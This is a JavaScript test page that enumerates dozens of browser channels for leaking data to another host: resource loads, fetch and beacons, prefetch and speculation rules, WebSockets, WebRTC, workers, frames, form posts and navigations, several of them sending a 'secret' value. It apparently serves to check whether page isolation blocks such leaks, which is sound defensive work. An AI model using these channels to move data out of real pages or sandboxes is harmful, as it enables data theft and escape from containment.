"use strict";
// All ways out of a page that the tests try. The URL selects them: `/?do=a,b&host=HOST&udp=PORT`. They run when the
// page is clicked, so that techniques that need user activation have it. They go to the other site with the scheme of
// the page, http or https.

const parameters = new URLSearchParams(location.search);
const host = parameters.get("host");
const udp = parameters.get("udp");
const here = document.getElementById("here");
const to = name => `${location.protocol}//${host}/t/${name}`;
const socketTo = name => to(name).replace(/^http/, "ws");

function put(markup) { here.insertAdjacentHTML("beforeend", markup); }
function tag(name, attributes) { const made = Object.assign(document.createElement(name), attributes); document.head.append(made); return made; }
function link(rel, more = {}) { return name => tag("link", { rel, href: to(name), ...more }); }
function click(attributes) { const made = Object.assign(document.createElement("a"), attributes); made.textContent = "x"; here.append(made); made.click(); }
function submit(attributes) {
    const form = Object.assign(document.createElement("form"), attributes);
    form.append(Object.assign(document.createElement("input"), { name: "leak", value: "secret" }));
    here.append(form);
    form.submit();
}
function run(code, type = "text/javascript") { return URL.createObjectURL(new Blob([code], { type })); }

const techniques = {
    // Resources.
    image: name => { new Image().src = to(name); },
    script: name => tag("script", { src: to(name) }),
    module: name => tag("script", { type: "module", src: to(name) }),
    dynamicImport: name => import(to(name)).catch(() => {}),
    style: link("stylesheet"),
    styleImport: name => put(`<style>@import "${to(name)}";</style>`),
    styleURL: name => put(`<p style="background: url(${to(name)})">x</p>`),
    font: name => put(`<style>@font-face { font-family: f; src: url(${to(name)}); }</style><p style="font-family: f">x</p>`),
    video: name => put(`<video src="${to(name)}" preload="auto"></video>`),
    audio: name => put(`<audio src="${to(name)}" preload="auto"></audio>`),
    track: name => put(`<video src="/x.mp4"><track default kind="captions" src="${to(name)}"></video>`),
    poster: name => put(`<video poster="${to(name)}"></video>`),
    object: name => put(`<object data="${to(name)}"></object>`),
    embed: name => put(`<embed src="${to(name)}">`),
    sourceSet: name => put(`<img srcset="${to(name)} 1x">`),
    drawing: name => put(`<svg><image href="${to(name)}"/></svg>`),
    drawingUse: name => put(`<svg><use href="${to(name)}#x"/></svg>`),
    manifest: link("manifest"),
    icon: link("icon"),
    fetch: name => fetch(to(name)).catch(() => {}),
    fetchNoCors: name => fetch(to(name), { mode: "no-cors", method: "POST", body: "secret" }).catch(() => {}),
    preflight: name => fetch(to(name), { method: "PUT", headers: { "X-Leak": "secret" } }).catch(() => {}),
    request: name => { const request = new XMLHttpRequest(); request.open("GET", to(name)); request.send(); },
    requestSynchronous: name => { const request = new XMLHttpRequest(); request.open("GET", to(name), false); try { request.send(); } catch {} },
    eventSource: name => { new EventSource(to(name)); },
    redirectedImage: name => { new Image().src = `/redirect?to=${encodeURIComponent(to(name))}`; },
    // Requests that outlive the page.
    beacon: name => navigator.sendBeacon(to(name), "secret"),
    fetchKeepalive: name => fetch(to(name), { keepalive: true, mode: "no-cors", method: "POST", body: "secret" }).catch(() => {}),
    ping: name => click({ href: "#x", ping: to(name) }),
    // Loads ahead of a navigation.
    prefetch: link("prefetch"),
    prefetchDocument: link("prefetch", { as: "document" }),
    preload: link("preload", { as: "image" }),
    modulePreload: link("modulepreload"),
    preconnect: link("preconnect"),
    dnsPrefetch: link("dns-prefetch"),
    prerenderLink: link("prerender"),
    speculationPrefetch: name => tag("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [to(name)], eagerness: "immediate" }] }) }),
    speculationPrerender: name => tag("script", { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ source: "list", urls: [to(name)], eagerness: "immediate" }] }) }),
    linkHeader: name => put(`<iframe src="/link-header?rel=preload;as=image&to=${encodeURIComponent(to(name))}"></iframe>`),
    linkHeaderPreconnect: name => put(`<iframe src="/link-header?rel=preconnect&to=${encodeURIComponent(to(name))}"></iframe>`),
    // Sockets.
    webSocket: name => { new WebSocket(socketTo(name)); },
    webSocketSecure: name => { new WebSocket(to(name).replace(/^https?/, "wss")); },
    webSocketInWorker: name => { new Worker(run(`new WebSocket("${socketTo(name)}")`)); },
    webRTC: () => {
        const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
        connection.createDataChannel("x");
        connection.createOffer().then(offer => connection.setLocalDescription(offer));
    },
    webRTCRelay: () => {
        const connection = new RTCPeerConnection({ iceTransportPolicy: "relay", iceServers: [{ urls: `turn:127.0.0.1:${udp}`, username: "u", credential: "p" }] });
        connection.createDataChannel("x");
        connection.createOffer().then(offer => connection.setLocalDescription(offer));
    },
    webTransport: () => { new WebTransport(`https://127.0.0.1:${udp}/`).ready.catch(() => {}); },
    // Workers.
    worker: name => { new Worker(run(`fetch("${to(name)}").catch(() => {})`)); },
    workerImport: name => { new Worker(run(`importScripts("${to(name)}")`)); },
    sharedWorker: name => { new SharedWorker(run(`fetch("${to(name)}").catch(() => {})`)); },
    nestedWorker: name => { new Worker(run(`new Worker(URL.createObjectURL(new Blob(['fetch("${to(name)}").catch(() => {})'])))`)); },
    paintWorklet: name => { window.CSS?.paintWorklet?.addModule(to(name)).catch(() => {}); },
    serviceWorkerFetch: async name => {
        const registration = await navigator.serviceWorker.register("/worker.js");
        await navigator.serviceWorker.ready;
        registration.active.postMessage(to(name));
    },
    // Reports that the browser sends on its own.
    report: name => put(`<iframe src="/reporting?to=${encodeURIComponent(to(name))}"></iframe>`),
    // Frames.
    frame: name => put(`<iframe src="${to(name)}"></iframe>`),
    frameNested: name => put(`<iframe src="/frame?to=${encodeURIComponent("/frame?to=" + encodeURIComponent(to(name)))}"></iframe>`),
    frameSource: name => put(`<iframe srcdoc='<img src="${to(name)}"><iframe src="${to(name)}"></iframe>'></iframe>`),
    frameSandboxed: name => put(`<iframe sandbox="allow-scripts" srcdoc='<script>fetch("${to(name)}")</` + `script>'></iframe>`),
    frameData: name => put(`<iframe src='data:text/html,<img src="${to(name)}">'></iframe>`),
    frameBlob: name => put(`<iframe src="${run(`<img src="${to(name)}">`, "text/html")}"></iframe>`),
    frameScript: name => put(`<iframe src="javascript:'<img src=${to(name)}>'"></iframe>`),
    frameRedirect: name => put(`<iframe src="/redirect?to=${encodeURIComponent(to(name))}"></iframe>`),
    frameRefresh: name => put(`<iframe srcdoc='<meta http-equiv="refresh" content="0;url=${to(name)}">'></iframe>`),
    framePost: name => { put(`<iframe name="f"></iframe>`); submit({ method: "post", action: to(name), target: "f" }); },
    download: name => click({ href: to(name), download: "x" }),
    // Navigations; each is tried alone.
    navigate: name => { location.href = to(name); },
    replace: name => location.replace(to(name)),
    metaRefresh: name => { document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${to(name)}">`); },
    refreshHeader: name => { location.href = `/refresh-header?to=${encodeURIComponent(to(name))}`; },
    redirect: name => { location.href = `/redirect?to=${encodeURIComponent(to(name))}`; },
    redirectChain: name => { location.href = `/redirect?status=307&to=${encodeURIComponent("/redirect?status=303&to=" + encodeURIComponent(to(name)))}`; },
    emptyThenNavigate: name => { location.href = "/nothing"; setTimeout(() => { location.href = to(name); }, 200); },
    open: name => { window.open(to(name)); },
    openEmptyThenGo: name => { const opened = window.open(""); if (opened) opened.location = to(name); },
    openEmptyAndWrite: name => { const opened = window.open(""); if (opened) opened.document.write(`<img src="${to(name)}">`); },
    openWithoutOpener: name => { window.open(to(name), "_blank", "noopener"); },
    blank: name => click({ href: to(name), target: "_blank" }),
    blankPost: name => submit({ method: "post", action: to(name), target: "_blank" }),
    formGet: name => submit({ method: "get", action: to(name) }),
    formPost: name => submit({ method: "post", action: to(name) }),
    openBlob: name => { window.open(run(`<img src="${to(name)}">`, "text/html")); },
    openData: name => { window.open(`data:text/html,<img src="${to(name)}">`); },
    openScript: name => { window.open(`javascript:'<img src=${to(name)}>'`); },
    navigateScript: name => { location.href = `javascript:location.href="${to(name)}"`; },
    navigateBlob: name => { location.href = run(`<img src="${to(name)}"><script>location.href="${to(name)}"</` + "script>", "text/html"); },
    history: name => { history.pushState({}, "", "/pushed"); location.href = to(name); setTimeout(() => history.back(), 300); },
    openMany: name => { for (let each = 0; each < 40; each++) window.open(to(name)); },
    leave: name => { addEventListener("pagehide", () => navigator.sendBeacon(to(name))); location.href = "/frame?to=about:blank"; },
};

// Below its picture in the service's page, there is nothing to click by accident.
addEventListener("click", event => {
    if (!event.isTrusted || !parameters.get("do")) return;
    // The test detects that the click has arrived, and otherwise clicks again.
    navigator.sendBeacon(`/show/clicked/${parameters.get("do")}`);
    for (const name of parameters.get("do").split(",")) {
        try { techniques[name](name); } catch (error) { console.log(name, error); }
    }
});
